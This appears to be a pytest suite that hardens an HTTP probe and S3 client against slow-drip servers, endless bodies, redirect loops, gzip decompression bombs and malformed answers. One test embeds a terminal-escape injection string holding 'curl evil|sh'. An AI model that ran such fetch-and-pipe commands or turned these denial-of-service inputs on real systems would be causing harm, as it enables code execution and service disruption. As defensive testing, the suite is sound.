"""Sites and stores that drip, never end, or write on the terminal: each exchange ends in its time and its memory."""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import hashlib
import io
import itertools
import resource
import socket
import ssl
import threading
import time
import tracemalloc
from typing import TYPE_CHECKING

import httpx
import pytest

from components.deadline import within
from components.dns.powerdns import nameserver
from components.dns.powerdns import stores as zone_stores
from components.dns.powerdns.bundle import Judged
from components.dns.powerdns.probing import Prober
from components.errors import StepError
from components.limits import PAGE_BYTES
from components.probe import probe
from components.probe.client import visit
from components.stores import s3
from components.stores.protocol import Outcome
from components.stores.writer import Records
from components.web import health
from tests.contract.containers import until
from tests.histories.stores import _certificate

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from components.config.models import Store

#: What the server of the test was asked, one request each.
requests: list[bytes] = []
Script = "Callable[[socket.socket], None]"
LIMIT_S = 1.0
#: What a limit of one second may take on a loaded machine; without the limit each of these goes on for ever.
AT_MOST_S = 5.0
HEAD = b"HTTP/1.1 200 OK\r\n"


def drip(head: bytes, part: bytes) -> Callable[[socket.socket], None]:
    """Send a head, then a part each 50 ms for ever."""

    def script(to: socket.socket) -> None:
        to.sendall(head)
        while True:
            to.sendall(part)
            time.sleep(0.05)

    return script


def flood(head: bytes) -> Callable[[socket.socket], None]:
    """Send a head, then as much as the other side takes."""

    def script(to: socket.socket) -> None:
        to.sendall(head)
        part = b"x" * (1 << 20)
        while True:
            to.sendall(part)

    return script


def answer(whole: bytes) -> Callable[[socket.socket], None]:
    return lambda to: to.sendall(whole)


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[..., int]]:
    """Start a server that plays a script to everybody who has sent a request; gives its port."""
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY", "all_proxy"):
        monkeypatch.delenv(name, raising=False)
    listening: list[socket.socket] = []
    requests.clear()

    def start(script: Callable[[socket.socket], None]) -> int:
        listener = socket.create_server(("127.0.0.1", 0))
        listening.append(listener)

        def one(connection: socket.socket) -> None:
            with connection, contextlib.suppress(OSError):
                while b"\r\n\r\n" not in (asked := connection.recv(65536)):
                    pass
                requests.append(asked)
                script(connection)

        def serve() -> None:
            with contextlib.suppress(OSError):
                while True:
                    threading.Thread(target=one, args=(listener.accept()[0],), daemon=True).start()

        threading.Thread(target=serve, daemon=True).start()
        port: int = listener.getsockname()[1]
        return port

    yield start
    for each in listening:
        each.close()


SLOW = {
    "a body that drips": drip(HEAD + b"Content-Length: 1000000\r\n\r\n", b"x"),
    "chunks that drip": drip(HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n"),
    "headers that drip": drip(HEAD, b"X: y\r\n"),
    "a first line that drips": drip(b"HTTP/1.1 200 ", b"O"),
    "nothing": lambda _to: time.sleep(60),
}


@pytest.mark.parametrize("name", SLOW)
def test_a_visit_ends_in_its_time(server: Callable[..., int], name: str) -> None:
    began = time.monotonic()
    page = visit(f"http://127.0.0.1:{server(SLOW[name])}/healthz", patience=LIMIT_S)
    assert time.monotonic() - began < AT_MOST_S
    assert (page.status, page.fault) in {(0, "no whole answer in 1 s"), (0, "no answer in time")}


@pytest.mark.parametrize("name", SLOW)
def test_a_proxy_cannot_hold_a_visit(server: Callable[..., int], monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    monkeypatch.setenv("HTTP_PROXY", f"http://127.0.0.1:{server(SLOW[name])}")
    monkeypatch.setenv("http_proxy", f"http://127.0.0.1:{server(SLOW[name])}")
    began = time.monotonic()
    page = visit("http://docs.dao.example/healthz", "203.0.113.7", patience=LIMIT_S)
    assert time.monotonic() - began < AT_MOST_S
    assert page.status == 0


def test_a_visit_reads_the_beginning_of_a_body_without_end(server: Callable[..., int]) -> None:
    port = server(flood(HEAD + b"\r\n"))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    page = visit(f"http://127.0.0.1:{port}/healthz", patience=30)
    assert (page.status, page.fault, len(page.body)) == (200, "", PAGE_BYTES)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000


def test_what_a_site_writes_obeys_nothing_of_a_terminals(server: Callable[..., int]) -> None:
    evil = "\x1b]0;pwned\x07\x1b[2J\u202ecurl evil|sh\x1b[8m".encode()
    port = server(answer(HEAD.replace(b"200", b"503") + b"\r\n" + evil))
    page = visit(f"http://127.0.0.1:{port}/healthz")
    output = probe.judge(page, "ab" * 32)
    assert output == "it answers 503, saying: \\x1b]0;pwned\\x07\\x1b[2J\\u202ecurl evil|sh\\x1b[8m"


def test_what_a_proxy_writes_is_cut_and_escaped(server: Callable[..., int], monkeypatch: pytest.MonkeyPatch) -> None:
    port = server(answer(b"HTTP/1.1 502 no\r\n\r\n" + b"\x1b[2J" + b"x" * 3_000))
    monkeypatch.setenv("http_proxy", f"http://127.0.0.1:{port}")
    page = visit("http://docs.dao.example/healthz", "203.0.113.7")
    assert page.fault.startswith("no answer (\\x1b[2Jxxx")
    assert len(page.fault) < 400


@pytest.mark.parametrize("name", SLOW)
def test_a_download_ends_in_its_time(server: Callable[..., int], name: str) -> None:
    began = time.monotonic()
    came = s3.read_public(f"http://127.0.0.1:{server(SLOW[name])}/x", io.BytesIO(), within_s=LIMIT_S)
    assert came == ("", "gives no whole answer in 1 s")
    assert time.monotonic() - began < AT_MOST_S


def test_an_answer_that_is_left_after_its_time_ends_as_any_other(server: Callable[..., int]) -> None:
    head = HEAD + b"Content-Length: 9000\r\n\r\n"
    url = f"http://127.0.0.1:{server(drip(head, b'x'))}/"
    with (
        within(0.3) as deadline,
        httpx.Client() as client,
        client.stream("GET", url, extensions={"trace": deadline.trace}) as answer,
    ):
        body = answer.iter_raw()
        next(body)
        until(lambda: deadline.over, "the end of its time")


def test_redirects_without_end_end_in_time(server: Callable[..., int]) -> None:
    port = server(
        lambda to: (
            time.sleep(0.2),
            to.sendall(b"HTTP/1.1 302 x\r\nLocation: /x\r\nConnection: close\r\nContent-Length: 0\r\n\r\n"),
        )
    )
    began = time.monotonic()
    came, instead = s3.read_public(f"http://127.0.0.1:{port}/x", None, within_s=LIMIT_S)
    assert (came, time.monotonic() - began < AT_MOST_S) == ("", True)
    assert instead == "gives no whole answer in 1 s"


def test_a_download_without_end_stops_behind_what_was_expected(server: Callable[..., int]) -> None:
    out = io.BytesIO()
    port = server(flood(HEAD + b"\r\n"))
    assert s3.read_public(f"http://127.0.0.1:{port}/x", out, most=100_000) == ("", "is larger than 100,000 bytes")
    assert len(out.getvalue()) <= 100_000


def test_a_store_with_credentials_is_read_no_further_either(
    server: Callable[..., int], monkeypatch: pytest.MonkeyPatch
) -> None:
    port = server(flood(HEAD + b"Content-Length: 100000000000\r\n\r\n"))
    settings = s3.settings({
        "s": {"vendor": "evil", "bucket": "dao", "endpoint": f"http://127.0.0.1:{port}",
              "public_url": f"http://127.0.0.1:{port}/dao", "access_key": "K", "secret_key": "K"},
    })["s"]  # fmt: skip
    monkeypatch.setenv("K", "testing")
    with pytest.raises(StepError, match="store s: docs/x is larger than 100,000 bytes"):
        s3.OpenStore("s", settings).fetch("docs/x", io.BytesIO(), most=100_000)
    monkeypatch.setattr(s3, "BUNDLE_S", 0.0)
    with pytest.raises(StepError, match="store s: docs/x gives no whole answer in 0 s"):
        s3.OpenStore("s", settings).fetch("docs/x", io.BytesIO())


def test_what_a_store_answers_is_cut_and_escaped(server: Callable[..., int], monkeypatch: pytest.MonkeyPatch) -> None:
    body = b"<Error><Code>Evil</Code><Message>" + b"{bucket}&#27;[2J" + b"x" * 5_000 + b"</Message></Error>"
    port = server(answer(b"HTTP/1.1 403 x\r\nContent-Length: %d\r\n\r\n" % len(body) + body))
    settings = s3.settings({
        "s": {"vendor": "evil", "bucket": "dao", "endpoint": f"http://127.0.0.1:{port}",
              "public_url": f"http://127.0.0.1:{port}/dao", "access_key": "K", "secret_key": "K"},
    })["s"]  # fmt: skip
    monkeypatch.setenv("K", "testing")
    with pytest.raises(StepError) as caught:
        s3.OpenStore("s", settings).find("docs/")
    assert len(str(caught.value)) < 500
    assert "\x1b" not in str(caught.value)


@pytest.mark.parametrize("name", ["a body that drips", "chunks that drip", "headers that drip"])
def test_a_store_that_drips_does_not_keep_a_name_server_from_the_next(
    server: Callable[..., int], monkeypatch: pytest.MonkeyPatch, tmp_path: Path, name: str
) -> None:
    monkeypatch.setattr(zone_stores, "_LIMIT_S", LIMIT_S)
    other = server(answer(HEAD + b"Content-Length: 3\r\n\r\nnot"))
    reports: list[str] = []
    addresses = [f"http://127.0.0.1:{port}/z" for port in (server(SLOW[name]), other)]
    began = time.monotonic()
    found = zone_stores.Stores("dao.example", addresses, tmp_path / "signers", reports.append).newest(1)
    assert (found, time.monotonic() - began < AT_MOST_S) == (None, True)
    assert [report.partition(": ")[0] for report in reports] == addresses
    assert reports[1].endswith("names no bundle in current")


def probed(*ports: int) -> list[bool]:
    """Probe a member at each port in turn, by one prober."""

    def member(port: int) -> Judged:
        probe = {"scheme": "http", "host": "docs-akash.dao.example", "path": "/", "by_address": True, "mark": "well"}
        row = {"name": "docs.dao.example", "type": "A", "ttl": 5, "content": "192.0.2.1"}
        return Judged(site="akash", rows=(row,), probe=probe, connect=f"127.0.0.1:{port}")  # type: ignore[arg-type]

    async def all_() -> list[bool]:
        async with contextlib.aclosing(Prober()) as prober:
            return [await prober.well(member(port)) for port in ports]

    return asyncio.run(all_())


#: 48 MiB, 48 kB packed once, and 200 bytes packed twice.
ZEROS = gzip.compress(bytes(48 << 20))
GROWS = {"gzip": ZEROS, "gzip, gzip": gzip.compress(ZEROS)}
COOKIES = b"".join(b"Set-Cookie: n%d=x; Path=/\r\n" % number for number in range(50))


def test_a_members_cookies_are_neither_kept_nor_sent(server: Callable[..., int]) -> None:
    port = server(answer(HEAD + COOKIES + b"Content-Length: 4\r\n\r\nwell"))
    assert probed(port, port, port) == [True] * 3
    assert [each for each in requests if b"cookie" in each.lower()] == []


def test_a_store_s_cookies_are_neither_kept_nor_sent(server: Callable[..., int], tmp_path: Path) -> None:
    port = server(answer(HEAD + COOKIES + b"Content-Length: 3\r\n\r\nnot"))
    addresses = [f"http://127.0.0.1:{port}/{name}" for name in "ab"]
    zone_stores.Stores("dao.example", addresses, tmp_path / "signers", lambda _: None).newest(1)
    assert len(requests) == 2
    assert [each for each in requests if b"cookie" in each.lower()] == []


@contextlib.contextmanager
def in_memory_of(most: int) -> Iterator[None]:
    """Hold what a test allocates at a time to `most` bytes."""
    tracemalloc.start()
    try:
        yield
        assert tracemalloc.get_traced_memory()[1] < most
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("coding", GROWS)
def test_a_member_s_answer_that_grows_is_searched_in_small_steps(server: Callable[..., int], coding: str) -> None:
    head = HEAD + f"Content-Encoding: {coding}\r\nContent-Length: {len(GROWS[coding])}\r\n\r\n".encode()
    port = server(answer(head + GROWS[coding]))
    with in_memory_of(8 << 20):
        assert probed(port) == [False]


@pytest.mark.parametrize(
    ("coding", "why"), [("gzip", "is larger than 1 MiB"), ("gzip, gzip", "a body coded as 'gzip, gzip' is not read")]
)
def test_a_store_s_answer_that_grows_stops_at_the_limit(
    server: Callable[..., int], monkeypatch: pytest.MonkeyPatch, tmp_path: Path, coding: str, why: str
) -> None:
    monkeypatch.setattr(zone_stores, "_MOST", 1 << 20)
    head = HEAD + f"Content-Encoding: {coding}\r\nContent-Length: {len(GROWS[coding])}\r\n\r\n".encode()
    address, reports = f"http://127.0.0.1:{server(answer(head + GROWS[coding]))}/z", list[str]()
    with in_memory_of(8 << 20):
        assert zone_stores.Stores("dao.example", [address], tmp_path / "signers", reports.append).newest(1) is None
    assert len(reports) == 1
    assert reports[0].endswith(why)


@pytest.fixture
def well(monkeypatch: pytest.MonkeyPatch) -> Iterator[int]:
    """Serve the health of a name server to three connections at a time, for a second each; give its port."""
    monkeypatch.setattr(health, "HEALTH_CONNECTIONS", 3)
    monkeypatch.setattr(health, "HEALTH_S", LIMIT_S)
    made = nameserver._health(0, lambda: "")
    yield made.server_port
    made.shutdown()
    made.server_close()


def asked(port: int) -> bytes:
    """Return what the server answers, nothing if it closes the connection."""
    with contextlib.suppress(ConnectionError), socket.create_connection(("127.0.0.1", port), timeout=30) as to:
        to.sendall(b"GET / HTTP/1.1\r\n\r\n")
        return b"".join(iter(lambda: to.recv(4096), b""))
    return b""


@pytest.mark.parametrize("sent", [b"", b"GET / HTT", b"GET / HTTP/1.1\r\nX: "])
def test_connections_that_ask_nothing_keep_no_thread(well: int, sent: bytes, capfd: pytest.CaptureFixture[str]) -> None:
    before = threading.active_count()
    with contextlib.ExitStack() as stack:
        silent = [stack.enter_context(socket.create_connection(("127.0.0.1", well), timeout=30)) for _ in range(20)]
        for each in silent:
            with contextlib.suppress(OSError):
                each.sendall(sent)
        until(lambda: threading.active_count() <= before + 3, "the end of the older ones' threads")
        for each in silent:
            with contextlib.suppress(ConnectionError):
                assert each.recv(1) == b"", "it is closed"
        until(lambda: threading.active_count() <= before, "the end of their threads")
        assert asked(well).endswith(b"well\n")
    assert capfd.readouterr().err == ""


def test_a_connection_that_drips_ends_in_its_time(well: int) -> None:
    before = threading.active_count()
    with socket.create_connection(("127.0.0.1", well), timeout=30) as to, contextlib.suppress(ConnectionError):
        to.sendall(b"GET / HTTP/1.1\r\nX: ")
        for _ in range(1_200):
            to.sendall(b"y")
            time.sleep(0.05)
        pytest.fail("it went on for a minute")
    until(lambda: threading.active_count() <= before, "the end of its thread")
    assert asked(well).endswith(b"well\n")


@pytest.fixture
def keys(monkeypatch: pytest.MonkeyPatch) -> None:
    """Set the credentials of `store`."""
    monkeypatch.setenv("K", "testing")


def store(port: int, scheme: str = "http") -> Store:
    at = f"{scheme}://127.0.0.1:{port}"
    given = {"vendor": "evil", "bucket": "dao", "endpoint": at, "public_url": f"{at}/dao"}
    return s3.settings({"s": given | {"access_key": "K", "secret_key": "K"}})["s"]


def sealed(script: Callable[[ssl.SSLSocket, socket.socket], None], folder: Path) -> int:
    """Start a server that plays a script to the first who speaks TLS with it: within TLS, and below it."""
    certificate, key = _certificate(folder)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    listener = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        while True:
            connection = listener.accept()[0]
            below = connection.dup()
            with contextlib.suppress(OSError), below, context.wrap_socket(connection, server_side=True) as inside:
                inside.recv(65536)
                script(inside, below)

    threading.Thread(target=serve, daemon=True).start()
    return int(listener.getsockname()[1])


def of_store(opened: s3.OpenStore, records: Records) -> dict[str, Callable[[], object]]:
    """Return every question to a store."""
    return {
        "read": lambda: opened.read("docs/x", 100),
        "fetch": lambda: opened.fetch("docs/x", io.BytesIO()),
        "find": lambda: opened.find("docs/"),
        "lock": opened.lock,
        "claim": lambda: opened.claim("docs/x", b"x"),
        "write": lambda: opened.write("docs/x", b"x"),
        "put": lambda: opened.put("docs/x", io.BytesIO(b"x"), "00"),
        "delete": lambda: opened.delete(["docs/x"]),
        "the record": records.read,
        "a record's write": lambda: records.put("docs/x", b"x", None),
        "a record's removal": lambda: records.remove("docs/x"),
    }


def test_a_broken_record_of_tls_is_an_answer_that_cannot_be_read(
    keys: None, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    def script(inside: ssl.SSLSocket, below: socket.socket) -> None:
        inside.sendall(HEAD + b'ETag: "a"\r\nContent-Length: 1000\r\n\r\nabc')
        below.sendall(b"\x17\x03\x03\x00\x20" + b"x" * 32)

    settings = store(sealed(script, tmp_path), "https")
    monkeypatch.setenv("AWS_CA_BUNDLE", str(tmp_path / "cert.pem"))
    questions = of_store(s3.OpenStore("s", settings), Records("s", settings, "docs/x", "w"))
    for each in ("read", "fetch", "the record"):
        with pytest.raises(StepError, match="store s: docs/x cannot be read: "):
            questions[each]()


LISTED = "<ListBucketResult><Contents><Key>docs/x</Key>%s</Contents></ListBucketResult>"
RULE = "<Rule><DefaultRetention><Days>x</Days></DefaultRetention></Rule>"
RETAINED = f"<ObjectLockConfiguration>{RULE}</ObjectLockConfiguration>"
WHOLE = "<Size>1</Size><ETag>a</ETag><LastModified>2026-01-01T00:00:00Z</LastModified>"
#: Answers with 200 that are not S3's: header lines, a body, and the questions that they leave without an answer.
ODD: dict[str, tuple[str, str, set[str]]] = {
    "no ETag": ("", "abc", {"the record"}),
    "a date that is none": ('ETag: "a"\r\nLast-Modified: zzz', "abc", {"read", "fetch", "the record"}),
    "a date that no clock reaches": (
        'ETag: "a"\r\nLast-Modified: Fri, 01 Jan 99999 00:00:00 GMT', "abc", {"read", "fetch", "the record"},
    ),
    "a number that is none": ('ETag: "a"\r\nx-amz-missing-meta: zz', "abc", {"read", "fetch", "the record"}),
    "a number without end": (
        f'ETag: "a"\r\nx-amz-tagging-count: {"9" * 5_000}', "abc", {"read", "fetch", "the record"},
    ),
    "a size that is none": ("x-amz-object-size: zz", "", {"claim", "write", "put"}),
    "an object without a size": ("", LISTED % WHOLE.replace("Size", "Sise"), {"find"}),
    "an object without a date": ("", LISTED % WHOLE.replace("LastModified", "Last"), {"find"}),
    "an object with an odd size": ("", LISTED % WHOLE.replace("1", "x", 1), {"find"}),
    "an object with an odd date": ("", LISTED % WHOLE.replace("2026-01-01", "zzz"), {"find"}),
    "odd days": ("", RETAINED, {"lock"}),
}  # fmt: skip


@pytest.mark.parametrize("name", ODD)
def test_an_answer_that_is_not_s3s_is_a_sentence(server: Callable[..., int], keys: None, name: str) -> None:
    lines, body, without = ODD[name]
    head = f"Content-Length: {len(body)}\r\nConnection: close\r\n" + (f"{lines}\r\n" if lines else "")
    settings = store(server(answer(HEAD + f"{head}\r\n{body}".encode())))
    questions = of_store(s3.OpenStore("s", settings), Records("s", settings, "docs/x", "w"))
    for each, question in questions.items():
        if each in without:
            with pytest.raises(StepError, match=r"^store s: .*its answer is not S3's") as caught:
                question()
            assert len(str(caught.value)) < 600
        else:
            with contextlib.suppress(StepError):
                question()
    lost = questions["a record's write"]()
    assert isinstance(lost, tuple)
    assert lost[0] is Outcome.LOST or "write" not in without


def test_a_store_that_leads_elsewhere_without_end_is_a_sentence(server: Callable[..., int], keys: None) -> None:
    head = b"HTTP/1.1 307 x\r\nLocation: http://127.0.0.1:1/\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
    records = Records("s", store(server(answer(head))), "docs/x", "w")
    with pytest.raises(StepError, match="store s: docs/x cannot be read: "):
        records.read()
    assert records.put("docs/x", b"x", None)[0] is Outcome.LOST


def test_an_object_that_is_cut_off_is_not_read(server: Callable[..., int], keys: None) -> None:
    settings = store(server(answer(HEAD + b'ETag: "a"\r\nContent-Length: 1000\r\n\r\nabc')))
    questions = of_store(s3.OpenStore("s", settings), Records("s", settings, "docs/x", "w"))
    for each in ("read", "fetch", "the record"):
        with pytest.raises(StepError, match="store s: docs/x cannot be read: 3 read, but total bytes expected is 1000"):
            questions[each]()


def test_a_small_object_that_drips_ends_in_its_time(
    server: Callable[..., int], keys: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(s3, "SMALL_S", LIMIT_S)
    settings = store(server(drip(HEAD + b'ETag: "a"\r\nContent-Length: 1000\r\n\r\n', b"x")))
    questions = of_store(s3.OpenStore("s", settings), Records("s", settings, "docs/x", "w"))
    for each in ("read", "the record"):
        began = time.monotonic()
        with pytest.raises(StepError, match="store s: docs/x cannot be read: no whole answer in 1 s"):
            questions[each]()
        assert time.monotonic() - began < AT_MOST_S


@pytest.mark.parametrize("each", ["", f"<Contents><Key>x</Key>{WHOLE}</Contents>" * 1_000])
def test_a_listing_without_end_is_refused(
    server: Callable[..., int], keys: None, monkeypatch: pytest.MonkeyPatch, each: str
) -> None:
    monkeypatch.setattr(s3, "LISTED_OBJECTS", 5_000)
    tokens = itertools.count()

    def page(to: socket.socket) -> None:
        more = f"<IsTruncated>true</IsTruncated><NextContinuationToken>{next(tokens)}</NextContinuationToken>"
        body = f"<ListBucketResult>{more}{each}</ListBucketResult>".encode()
        to.sendall(HEAD + b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body)

    settings = store(server(page))
    with pytest.raises(StepError, match="store s: docs/ has more than 5,000 objects, or a listing without end"):
        s3.OpenStore("s", settings).find("docs/")


def redirect(to: str, body: bytes = b"", more: bytes = b"") -> bytes:
    return b"HTTP/1.1 302 x\r\nLocation: %s\r\nConnection: close\r\n%s\r\n" % (to.encode(), more) + body


def test_bodies_of_redirects_are_not_read(server: Callable[..., int]) -> None:
    end = server(answer(HEAD + b"Connection: close\r\n\r\nwhole"))
    port = server(flood(redirect(f"http://127.0.0.1:{end}/x")))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    came = s3.read_public(f"http://127.0.0.1:{port}/x", None, within_s=30)
    assert came == (hashlib.sha256(b"whole").hexdigest(), "")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000


def test_redirects_in_a_circle_end(server: Callable[..., int]) -> None:
    port = server(answer(redirect("/x")))
    assert s3.read_public(f"http://127.0.0.1:{port}/x", None) == ("", "does not answer (more than 20 redirects)")


@pytest.mark.parametrize("to", ["http://" + "a" * 70 + "/", "http://[/", "ftp://x/", "http://a..b/", "http://x:99999/"])
def test_a_redirect_that_leads_nowhere_does_not_raise(server: Callable[..., int], to: str) -> None:
    port = server(answer(redirect(to)))
    came, instead = s3.read_public(f"http://127.0.0.1:{port}/x", None)
    assert (came, instead.startswith("does not answer (")) == ("", True)


def test_a_download_that_is_packed_twice_is_not_unpacked(server: Callable[..., int]) -> None:
    body = gzip.compress(gzip.compress(bytes(1 << 27)))
    port = server(answer(HEAD + b"Content-Encoding: gzip, gzip\r\nConnection: close\r\n\r\n" + body))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    came, instead = s3.read_public(f"http://127.0.0.1:{port}/x", None, most=1_000)
    assert (came, "is not read" in instead) == ("", True)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000


def test_a_peer_that_is_silent_before_tls_holds_nobody() -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        url = f"https://127.0.0.1:{listener.getsockname()[1]}/x"
        began = time.monotonic()
        assert s3.read_public(url, None, within_s=LIMIT_S) == ("", "gives no whole answer in 1 s")
        assert visit(url, patience=LIMIT_S).status == 0
        assert time.monotonic() - began < AT_MOST_S


@pytest.fixture
def silent() -> Iterator[int]:
    """Return a port where no connection is accepted any more: the queue is full."""
    with socket.socket() as listener, contextlib.ExitStack() as full:
        listener.bind(("127.0.0.1", 0))
        listener.listen(0)
        for _ in range(4):
            waiting = full.enter_context(socket.socket())
            waiting.setblocking(False)
            waiting.connect_ex(listener.getsockname())
        time.sleep(0.1)
        yield listener.getsockname()[1]


@pytest.mark.parametrize("last", [False, True])
def test_a_name_with_many_silent_addresses_is_visited_in_its_time(
    server: Callable[..., int], silent: int, monkeypatch: pytest.MonkeyPatch, last: bool
) -> None:
    answers = server(answer(HEAD + b"Connection: close\r\n\r\nwhole"))
    ports, real = [silent] * 8 + [answers] * last, socket.getaddrinfo
    many = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", port)) for port in ports]
    monkeypatch.setattr(
        socket, "getaddrinfo",
        lambda host, *given, **named: many if host == "many.example" else real(host, *given, **named),
    )  # fmt: skip
    began = time.monotonic()
    page = visit("http://many.example/", patience=LIMIT_S)
    assert time.monotonic() - began < AT_MOST_S
    assert page.status == (200 if last else 0)
